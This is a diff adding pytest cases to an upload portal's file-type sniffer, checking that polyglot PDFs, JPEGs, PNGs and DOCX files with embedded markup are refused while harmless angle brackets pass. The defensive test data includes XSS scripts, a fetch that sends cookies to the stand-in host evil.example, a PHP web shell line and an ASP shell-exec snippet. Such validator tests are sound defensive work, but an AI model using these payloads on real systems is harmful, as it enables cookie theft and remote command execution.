@@ -9,7 +9,7 @@ import pytest
 
 from portal.errors import UploadRejected
 from portal.services.uploads import receive_upload
-from portal.storage.sniff import NOT_ACCEPTED, FileType, sniff
+from portal.storage.sniff import NOT_ACCEPTED, POLYGLOT, SCAN_BYTES, FileType, sniff
 from tests.storage.sample_files import (
     DOCX,
     ODT,
@@ -19,6 +19,7 @@ from tests.storage.sample_files import (
     make_odf,
     make_pdf,
     make_png,
+    make_png_with_text,
     make_zip,
 )
 
@@ -121,3 +122,59 @@ def test_sniff_leaves_the_stream_at_its_start() -> None:
     sniff(stream)
 
     assert stream.tell() == 0
+
+
+def pdf_with(markup: bytes) -> bytes:
+    """A PDF whose first line is followed by ``markup`` (in a comment, where PDF readers ignore it)."""
+    pdf = make_pdf()
+    header_end = pdf.index(b"\n") + 1
+    return pdf[:header_end] + b"%" + markup + b"\n" + pdf[header_end:]
+
+
+@pytest.mark.parametrize(
+    "data",
+    [
+        pdf_with(b"<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>"),
+        pdf_with(b"<HTML><BODY onload=alert(1)>"),
+        make_jpeg(comment=b"<script>fetch('//evil.example/'+document.cookie)</script>"),
+        make_jpeg(comment=b"<?php system($_GET['c']); ?>"),
+        make_jpeg(comment=b'<% Response.Write(CreateObject("WScript.Shell").Exec("cmd")) %>'),
+        make_png_with_text(b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'),
+        make_png_with_text(b"<iframe src=//evil.example>"),
+        make_docx(("<script>alert(1)</script>.xml", b"")),
+        # Deep in the scanned part, not just in the first 512 bytes.
+        make_jpeg(comment=bytes(40_000) + b"<html><script>alert(1)</script>"),
+    ],
+    ids=[
+        "pdf-html",
+        "pdf-upper-case",
+        "jpeg-script",
+        "jpeg-php",
+        "jpeg-asp",
+        "png-svg",
+        "png-iframe",
+        "docx-name",
+        "deep",
+    ],
+)
+def test_a_polyglot_of_an_accepted_type_and_markup_is_refused(data: bytes) -> None:
+    with pytest.raises(UploadRejected) as refused:
+        sniffed(data)
+
+    assert refused.value.message == POLYGLOT
+
+
+@pytest.mark.parametrize(
+    "data",
+    [
+        # What real files carry: PDF dictionaries, XMP metadata, angle brackets in text.
+        pdf_with(b'<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF><dc:title>Costs < income</dc:title></rdf:RDF>'),
+        make_jpeg(comment=b"<%\x00\x01\xff binary that happens to start like a tag <htm <svg2 <bodyguard"),
+        make_png_with_text(b"Scanned <2026> with a phone; 5<%7"),
+        # Markup past the scanned part is not where a browser looks for it.
+        make_jpeg(comment=bytes(SCAN_BYTES) + b"<html>"),
+    ],
+    ids=["pdf-xmp", "jpeg-near-misses", "png-text", "beyond-the-scan"],
+)
+def test_ordinary_angle_brackets_are_not_markup(data: bytes) -> None:
+    assert sniffed(data).mime_type in {"application/pdf", "image/jpeg", "image/png"}
